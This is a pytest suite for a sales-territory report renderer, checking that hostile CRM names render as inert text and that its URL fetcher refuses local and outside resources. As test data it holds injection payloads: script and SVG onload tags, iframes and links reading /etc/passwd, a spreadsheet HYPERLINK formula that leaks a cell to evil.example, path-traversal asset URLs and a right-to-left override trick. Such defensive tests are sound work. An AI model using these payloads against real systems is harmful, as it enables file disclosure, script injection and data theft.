"""Hostile CRM data renders inert and legible; the URL fetcher only serves packaged assets."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import markupsafe
import pytest
from conftest_books import (
    GENERATED_ON,
    copy_fixture,
    pdf_text,
    render_checked,
    skip_without_cjk_font,
    weasyprint_logs,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from territory.errors import RenderError
from territory.reporting import build_manager_rollup, build_rep_book, load_plan_dir, render_html
from territory.reporting.books import plan_book_jobs
from territory.reporting.render import AssetFetcher, clip, html_to_pdf, isolate_bidi, make_environment

PASSWD = Path("/etc/passwd")
LONG = "W" * 10_000
HOSTILE = {
    "A-003": '<img src="file:///etc/passwd"> Evil Image Co',
    "A-021": "<script>alert('x')</script> Script Corp",
    "A-024": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "A-027": "https://evil.example/path?q=1 Link Ltd",
    "A-029": '<link rel="stylesheet" href="file:///etc/passwd"><style>@import url("file:///etc/passwd");</style>Style Inc',
    "A-033": LONG,
    "A-035": "שלום חברה בע״מ شركة الاختبار",
    "A-036": "株式会社テスト 北京科技有限公司",
    "A-039": '<svg onload="alert(1)"><image href="data:image/png;base64,AAAA"/></svg>Svg GmbH',
}


def _neutralise(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.fixture(scope="module")
def hostile_plan(tmp_path_factory):
    return make_hostile_plan(tmp_path_factory.mktemp("hostile"))


def make_hostile_plan(dest: Path):
    """The small plan with R01's accounts renamed to hostile values, and a hostile manager."""
    d = copy_fixture(dest)
    path = d / "assignments.csv"
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    for r in rows:
        if r["account_id"] in HOSTILE:
            assert r["owner_id"] == "R01", r["account_id"]
            r["name"] = _neutralise(HOSTILE[r["account_id"]])
            r["why"] = '<iframe src="file:///etc/passwd"></iframe> why text'
            r["industry"] = "<b>bold?</b>"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    summary = json.loads((d / "summary.json").read_text())
    summary["reps"][0]["manager"] = '<img src="file:///etc/passwd">../../Boss'
    summary["reps"][0]["region"] = "<script>x</script>West"
    (d / "summary.json").write_text(json.dumps(summary))
    return load_plan_dir(d)


@pytest.fixture(scope="module")
def hostile_render(hostile_plan):
    fetcher = AssetFetcher()
    pdf = render_checked(build_rep_book(hostile_plan, "R01", generated_on=GENERATED_ON), fetcher=fetcher)
    return pdf, fetcher


def test_only_packaged_assets_were_requested(hostile_render):
    _, fetcher = hostile_render
    assert fetcher.requested == ["territory-asset:print.css"]
    assert fetcher.refused == []


def test_no_local_file_content_in_the_pdf(hostile_render):
    pdf, _ = hostile_render
    text = pdf_text(pdf)
    for line in PASSWD.read_text().splitlines()[:5]:
        assert line not in text
    assert "root:x:0:0" not in text and b"root:x:0" not in pdf


# Without a font for its CJK names, WeasyPrint writes the book's bold font with its own
# encoding, which pypdf cannot decode (poppler can); the text checks need the font.
PYPDF_NEEDS_CJK = ": pypdf cannot read text from a book whose CJK names had no font"


def test_markup_is_shown_as_text(hostile_render):
    skip_without_cjk_font(PYPDF_NEEDS_CJK)
    text = " ".join(pdf_text(hostile_render[0]).split())
    assert '<img src="file:///etc/passwd"> Evil Image Co' in text
    assert "<script>alert('x')</script> Script Corp" in text
    assert "'=HYPERLINK(" in text  # the neutralised cell, as-is
    assert "https://evil.example/path?q=1 Link Ltd" in text


def test_html_is_escaped_in_every_book(hostile_plan):
    rep = render_html(build_rep_book(hostile_plan, "R01"))
    mgr = render_html(build_manager_rollup(hostile_plan, '<img src="file:///etc/passwd">../../Boss'))
    for html in (rep, mgr):
        assert "<img src" not in html and "<script>" not in html and "<iframe" not in html
        assert "&lt;img src=&#34;file:///etc/passwd&#34;&gt;" in html


def test_very_long_name_is_shortened_and_the_book_stays_short(hostile_render):
    pdf, _ = hostile_render
    assert "W" * 10_000 not in pdf_text(pdf)
    import io

    import pypdf

    assert len(pypdf.PdfReader(io.BytesIO(pdf)).pages) < 12


def test_rtl_text_survives(hostile_render):
    skip_without_cjk_font(PYPDF_NEEDS_CJK)
    text = pdf_text(hostile_render[0])
    assert "شركة" in text or "הרבח" in text or "חברה" in text


def test_cjk_text_survives(hostile_render):
    skip_without_cjk_font()
    text = pdf_text(hostile_render[0])
    assert "北京科技有限公司" in text or "株式会社" in text


def test_hostile_ids_and_managers_give_safe_file_names(hostile_plan):
    names = [j.filename for j in plan_book_jobs(hostile_plan)]
    assert all("/" not in n and not n.startswith(".") for n in names)
    assert "manager-img-src-file-etc-passwd-boss.pdf" in names


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "data:text/css,body{}",
        "http://example.com/x.css",
        "territory-asset:../pyproject.toml",
        "territory-asset:rep_book.html",
        "territory-asset:__init__.py",
        "territory-asset:/etc/passwd",
    ],
)
def test_fetcher_refuses(url):
    f = AssetFetcher()
    with pytest.raises(RenderError):
        f.resolve(url)
    assert f.refused == [url]


def test_fetcher_serves_packaged_css():
    body, mime = AssetFetcher().resolve("territory-asset:print.css")
    assert mime == "text/css" and b"@page" in body


def test_injected_resources_are_refused_by_weasyprint():
    """Even markup that escaped the templates could not read local files or data URLs."""
    html = (
        '<html><head><link rel="stylesheet" href="file:///etc/passwd"></head><body>'
        '<img src="file:///etc/passwd"><img src="data:image/png;base64,iVBORw0KGgo=">'
        '<object data="file:///etc/passwd"></object><p>visible</p></body></html>'
    )
    fetcher = AssetFetcher()
    with weasyprint_logs() as records:
        pdf, pages, _, _ = html_to_pdf(html, fetcher)
    assert pages == 1 and b"root:x:0" not in pdf
    assert fetcher.requested and fetcher.requested == fetcher.refused
    assert all(u.startswith(("file:", "data:")) for u in fetcher.requested)
    assert records  # WeasyPrint reported each refusal as a warning


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(max_size=400))
def test_any_name_is_escaped(hostile_plan, name):
    import dataclasses

    ctx = build_rep_book(hostile_plan, "R02")
    section = ctx.sections[0]
    row = dataclasses.replace(section.rows[0], name=name)
    ctx = dataclasses.replace(ctx, sections=(dataclasses.replace(section, rows=(row,)),) + ctx.sections[1:])
    html = render_html(ctx, _ENV)
    assert str(markupsafe.escape(isolate_bidi(clip(name)))) in html


_ENV = make_environment()


def _bidi_plan(dest: Path):
    """The small plan with R01's first account named with a right-to-left override (U+202E,
    the trick that shows 'exe.fdp' as 'pdf.exe') and an Arabic industry."""
    d = copy_fixture(dest)
    path = d / "assignments.csv"
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    first = next(r for r in rows if r["owner_id"] == "R01")
    first.update(name="Evil\u202eexe.fdp Corp", industry="\u0628\u0631\u0645\u062c\u064a\u0627\u062a")
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    return load_plan_dir(d), first


def test_bidi_controls_in_crm_text_cannot_reorder_the_book(tmp_path):
    """A right-to-left override in a name reversed the text after it on the line (the potential
    '10,296' printed as '692,01'); an Arabic industry pulled the employee count to its left.
    Direction controls from the CRM are dropped and right-to-left text is isolated (U+2068 ...
    U+2069), so every number keeps its place and reads as written."""
    plan, first = _bidi_plan(tmp_path)
    html = render_html(build_rep_book(plan, "R01", generated_on=GENERATED_ON), _ENV)
    assert "\u202e" not in html
    assert "Evilexe.fdp Corp" in html
    assert "\u2068\u0628\u0631\u0645\u062c\u064a\u0627\u062a\u2069" in html
    pdf = render_checked(build_rep_book(plan, "R01", generated_on=GENERATED_ON))
    text = pdf_text(pdf)
    assert "Evilexe.fdp Corp" in text and "proC" not in text


def test_a_long_name_not_on_the_map_stays_on_the_page(hostile_plan):
    """A 2,000-letter account name listed under 'Not on this map' ran off the right edge of the
    page (shortened to 140 characters, but one word with nowhere to break); it wraps now."""
    import dataclasses

    import weasyprint
    from markupsafe import Markup
    from weasyprint.formatting_structure import boxes

    from territory.geo.book_maps import MapFigure

    figure = MapFigure(
        title="Your territory on the map",
        svg=Markup('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>'),
        caption="0 of 1 accounts on the map.",
        legend=(),
        on_map=0,
        accounts=1,
        off_map=("A" * 2000 + " (Tokyo, JP)",),
        off_map_more=0,
    )
    ctx = dataclasses.replace(build_rep_book(hostile_plan, "R02", generated_on=GENERATED_ON), geo_map=figure)
    document = weasyprint.HTML(string=render_html(ctx, _ENV), url_fetcher=AssetFetcher().weasyprint_fetcher())
    over = []
    for page in document.render().pages:
        right = page.width - page._page_box.margin_right

        def walk(box):
            yield box
            for child in getattr(box, "children", ()):
                yield from walk(child)

        over += [
            b.text[:20]
            for b in walk(page._page_box)
            if isinstance(b, boxes.TextBox) and b.position_x + b.width > right + 0.01
        ]
    assert over == []


def test_a_manager_named_in_another_script_gets_a_file_named_after_the_team(tmp_path):
    """Managers named 'مدير', 'מנהל' and '经理' all had no ASCII letters and got
    manager-manager.pdf, manager-manager-2.pdf and manager-manager-3.pdf: nobody could tell whose
    was whose. Such a roll-up is named after the first rep of its team."""
    d = copy_fixture(tmp_path)
    summary = json.loads((d / "summary.json").read_text())
    names = ["\u0645\u062f\u064a\u0631", "\u05de\u05e0\u05d4\u05dc", "\u7ecf\u7406"]
    for rep, manager in zip(summary["reps"], names):
        rep["manager"] = manager
    (d / "summary.json").write_text(json.dumps(summary))
    plan = load_plan_dir(d)
    files = {j.key: j.filename for j in plan_book_jobs(plan) if j.kind == "manager"}
    first = {m: next(r.rep_id for r in plan.reps if r.manager == m) for m in names}
    assert [files[m] for m in names] == [f"manager-team-{first[m]}.pdf" for m in names]
